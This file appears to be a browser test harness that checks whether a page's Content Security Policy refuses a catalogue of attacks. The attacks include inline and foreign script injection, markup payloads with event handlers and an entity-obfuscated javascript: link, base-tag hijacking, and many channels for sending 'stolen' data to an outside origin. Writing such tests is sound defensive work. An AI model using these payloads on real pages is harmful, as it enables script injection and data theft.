// What a flaw in the page would let somebody do, one after the other. Each attack is a function; `went` notes that one
// had its way. Answers, for each, what was refused: exceptions, and what the content policy says. `stranger` is an origin;
// `turns` is for how long one is waited for, in fortieths of a second.

const wins = new Set();
window.attacked = (name) => wins.add(name);
const make = (tag, properties, parent = document.body) => {
  const element = Object.assign(document.createElement(tag), properties);
  parent.append(element);
  return element;
};
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
const to = (name) => `${stranger}/${name}`;
const box = document.createElement("div");

const attacks = {
  // Code.
  "inline-script": () => make("script", { textContent: "attacked('inline-script')" }),
  "inline-handler": () => {
    const button = make("button");
    button.setAttribute("onclick", "attacked('inline-handler')");
    button.click();
  },
  "javascript-link": () => make("a", { href: "javascript:attacked('javascript-link')" }).click(),
  eval: () => window.eval("attacked('eval')"),
  "function-of-text": () => new window.Function("attacked('function-of-text')")(),
  "timer-of-text": () => window.setTimeout("attacked('timer-of-text')", 0),
  "foreign-script": () => make("script", { src: to("foreign-script") }),
  "foreign-module": () => make("script", { type: "module", src: to("foreign-module") }),
  "blob-script": () => make("script", { src: blob("attacked('blob-script')") }),
  "data-script": () => make("script", { src: "data:text/javascript,attacked('data-script')" }),
  worker: () => (new Worker(blob("postMessage(1)")).onmessage = () => attacked("worker")),
  // Markup.
  "markup-with-handler": () => {
    document.body.append(box);
    box.innerHTML = `<img src="data:," onerror="attacked('markup-with-handler')">`;
  },
  "markup-with-hidden-link": () => {
    document.body.append(box);
    box.innerHTML = `<a href="java&#115;cript:attacked('markup-with-hidden-link')">Look</a>`;
    box.firstChild.click();
  },
  "markup-beside-another": () =>
    document.body.insertAdjacentHTML("beforeend", "<svg><set onbegin=attacked('markup-beside-another') attributeName=x>"),
  "document-of-text": () => make("iframe", { srcdoc: "<script>parent.attacked('document-of-text')</script>" }),
  "parsed-document": () => {
    const parsed = new DOMParser().parseFromString("<script>attacked('parsed-document')</script>", "text/html");
    document.body.append(document.adoptNode(parsed.querySelector("script")));
    // A parsed script never runs where it is moved to; that it was parsed is what counts.
    attacked("parsed-document");
  },
  // What looks like this page and is not.
  "foreign-frame": () => make("iframe", { src: to("foreign-frame") }),
  "data-frame": () =>
    new Promise((loaded) => {
      window.addEventListener("message", ({ data }) => attacked(data), { once: true });
      make("iframe", { src: "data:text/html,<script>parent.postMessage('data-frame','*')</script>", onload: loaded });
    }),
  object: () => make("object", { data: to("object") }),
  embed: () => make("embed", { src: to("embed") }),
  base: () => {
    const base = make("base", { href: to("base/") }, document.head);
    if (document.baseURI.startsWith(stranger)) attacked("base");
    base.remove();
  },
  "foreign-style": () => make("link", { rel: "stylesheet", href: to("foreign-style") }, document.head),
  "inline-style": () => {
    make("style", { textContent: "body { --attacked: 1 }" }, document.head);
    if (getComputedStyle(document.body).getPropertyValue("--attacked")) attacked("inline-style");
  },
  "style-attribute": () => {
    document.body.setAttribute("style", "--attacked: 2");
    if (getComputedStyle(document.body).getPropertyValue("--attacked") === "2") attacked("style-attribute");
  },
  // What carries something away.
  fetch: () => fetch(to("fetch"), { method: "POST", body: "stolen" }).catch(() => {}),
  "blind-fetch": () => fetch(to("blind-fetch"), { mode: "no-cors" }).catch(() => {}),
  "kept-fetch": () => fetch(to("kept-fetch"), { mode: "no-cors", keepalive: true }).catch(() => {}),
  xhr: () => {
    const request = new XMLHttpRequest();
    request.open("POST", to("xhr"));
    request.send("stolen");
  },
  beacon: () => navigator.sendBeacon(to("beacon"), "stolen"),
  websocket: () => void new WebSocket(to("websocket").replace("http", "ws")),
  "event-source": () => void new EventSource(to("event-source")),
  image: () => void (new Image().src = to("image?stolen")),
  video: () => make("video", { src: to("video"), preload: "auto" }).load(),
  font: () => void new FontFace("Stolen", `url(${to("font")})`).load().catch(() => {}),
  form: () => {
    make("iframe", { name: "away" });
    make("form", { action: to("form"), method: "post", target: "away" }).submit();
  },
  prefetch: () => make("link", { rel: "prefetch", href: to("prefetch") }, document.head),
  preload: () => make("link", { rel: "preload", as: "script", href: to("preload") }, document.head),
  ping: () => make("a", { href: "#/", ping: to("ping") }).click(),
};
if (window.trustedTypes) {
  attacks["policy-of-its-own"] = () => {
    trustedTypes.createPolicy("attack", { createHTML: (text) => text });
    attacked("policy-of-its-own");
  };
  // Without them, a script of this page's own origin is one of its own.
  attacks["script-of-this-origin"] = () => {
    make("script", { src: "auth.js", type: "text/plain" });
    attacked("script-of-this-origin");
  };
}
if (navigator.serviceWorker) {
  // Its own script would not run there either, so that it was refused is not enough: the policy has to say so.
  attacks["service-worker"] = () =>
    navigator.serviceWorker.register("auth.js").then(() => attacked("service-worker"), (error) => {
      if (!/worker-src|Trusted|Content Security|by CSP/.test(error)) attacked("service-worker");
      throw error;
    });
}

const pause = (milliseconds) => new Promise((over) => setTimeout(over, milliseconds));

// A task of its own: what the driver runs itself may be held to other rules than the page.
async function tried(name) {
  const met = [];
  const note = (event) => met.push(event.effectiveDirective);
  document.addEventListener("securitypolicyviolation", note);
  try {
    // What is refused may never end: a frame of Firefox loads nothing, and does not say so.
    await Promise.race([attacks[name](), pause(1000)]);
  } catch (error) {
    met.push(String(error));
  }
  for (let turn = 0; turn < turns && met.length === 0 && !wins.has(name); turn += 1) await pause(25);
  document.removeEventListener("securitypolicyviolation", note);
  return met;
}

return new Promise((done) => setTimeout(async () => {
  const answer = {};
  for (const name of Object.keys(attacks)) answer[name] = { met: await tried(name) };
  await pause(1000);
  for (const name of Object.keys(attacks)) answer[name].went = wins.has(name);
  // Whatever the attack was called, nothing of a stranger ran.
  answer["any-foreign-code"] = { met: ["–"], went: wins.has("a script of a stranger") };
  done(answer);
}));
